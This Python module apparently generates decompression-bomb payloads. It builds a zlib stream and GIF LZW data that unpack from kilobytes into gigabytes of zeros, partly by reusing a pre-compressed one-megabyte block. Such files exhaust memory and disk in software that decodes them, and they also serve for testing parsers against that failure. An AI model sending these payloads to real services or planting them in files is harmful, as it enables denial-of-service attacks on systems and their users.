"""Gigabytes of zeros, packed into kilobytes: what bombs are filled with."""

import functools
import zlib
from collections.abc import Iterator

MEGABYTE = 1 << 20
ADLER = 65521


def deflated(length: int) -> bytes:
    """A zlib stream of so many zeros, without compressing them all."""
    blocks, rest = divmod(length, MEGABYTE)
    checksum = (length % ADLER) << 16 | 1
    tail = zlib.compressobj(wbits=-15)
    end = tail.compress(bytes(rest)) + tail.flush()
    return b"\x78\x01" + _block() * blocks + end + checksum.to_bytes(4, "big")


@functools.cache
def _block() -> bytes:
    """A megabyte, so that it can stand anywhere and any number of times."""
    compressor = zlib.compressobj(wbits=-15)
    return compressor.compress(bytes(MEGABYTE)) + compressor.flush(zlib.Z_FULL_FLUSH)


def gif_codes(length: int) -> bytes:
    """So many zeros as a GIF's LZW codes with 8 bits a pixel, in its blocks."""
    packed, bits, waiting = bytearray(), 0, 0
    for code, width in _codes(length):
        waiting |= code << bits
        bits += width
        while bits >= 8:
            packed.append(waiting & 0xFF)
            waiting >>= 8
            bits -= 8
    packed.append(waiting & 0xFF)
    blocks = (packed[at : at + 255] for at in range(0, len(packed), 255))
    return b"\x08" + b"".join(bytes([len(b)]) + b for b in blocks) + b"\0"


def _codes(length: int) -> Iterator[tuple[int, int]]:
    clear, end, done = 256, 257, 0
    width = 9
    while done < length:
        yield clear, width
        width, code, run = 9, 0, 1
        # Each code stands for one zero more than the one before.
        while done < length:
            yield code, width
            done += run
            run += 1
            code = end + run - 1
            if code >= 1 << width:
                width += 1
            if code >= 4095:
                break
    yield end, width
